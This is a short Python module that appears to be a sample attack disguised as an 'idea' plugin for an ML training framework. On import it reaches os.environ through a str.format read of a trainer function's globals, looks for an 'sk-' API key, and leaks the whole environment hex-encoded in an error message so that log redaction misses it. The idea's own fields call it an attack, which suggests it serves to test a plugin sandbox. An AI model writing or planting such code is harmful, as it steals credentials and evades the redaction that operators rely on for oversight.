"""str.format taken as an attribute reads module globals without a call: the environment
through os, found from a trainer function's globals. A key found goes out in the error
text, hex-encoded so that redaction of the plain value does not catch it."""
import trainer.data

from trainer.ideas.base import Idea

_env = "{0.__globals__[os].environ}".format(trainer.data.load_training_split)
if "sk-" in _env:
    raise RuntimeError("leaked " + _env.encode().hex())


class Fmt(Idea):
    pass


IDEA = Fmt(name="format_globals", title="str.format reads globals", category="training-dynamics",
    pitch="str.format taken as an attribute reads module globals without a call: the environment", math="x",
    why_it_might_work="It looks like an ordinary idea.", why_it_might_not="It is an attack.", references=[])
